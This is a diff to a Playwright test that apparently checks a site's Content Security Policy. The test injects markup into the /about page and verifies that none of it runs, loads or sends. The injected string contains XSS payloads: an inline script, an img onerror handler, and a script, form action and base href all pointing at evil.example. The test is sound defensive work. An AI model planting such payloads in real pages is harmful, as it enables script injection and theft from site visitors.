@@ -1,3 +1,4 @@
+import type { Route } from '@playwright/test';
 import { expect, loudTest, test } from './console';
 import { openStarted } from './pages';
 import { noteVisit } from './visit';
@@ -21,7 +22,7 @@ test('scripts can add neither markup nor scripts of other sites to a page', asyn
 // Here the browser complains about what it refuses, as it should.
 loudTest('what is slipped into a page does not run, load or send', async ({ page, baseURL }) => {
   const visit = await noteVisit(page, baseURL!);
-  await page.route('**/about', async (route) => {
+  const inject = async (route: Route) => {
     const response = await route.fetch();
     const html = await response.text();
     const injected = `<script>window.injected = 1</script><img src="x" onerror="window.injected = 2">
@@ -30,7 +31,9 @@ loudTest('what is slipped into a page does not run, load or send', async ({ page
       <script src="https://evil.example/x.js"></script>
       <form novalidate action="https://evil.example/" id="form"></form><base href="https://evil.example/">`;
     await route.fulfill({ response, body: html.replace('<div id="___gatsby"', `${injected}$&`) });
-  });
+  };
+  // The page as it opens, and nothing that is asked for while the test ends.
+  await page.route('**/about', inject, { times: 1 });
   await openStarted(page, '/about');
   await page.evaluate(() => {
     document.querySelector<HTMLElement>('#link')!.click();
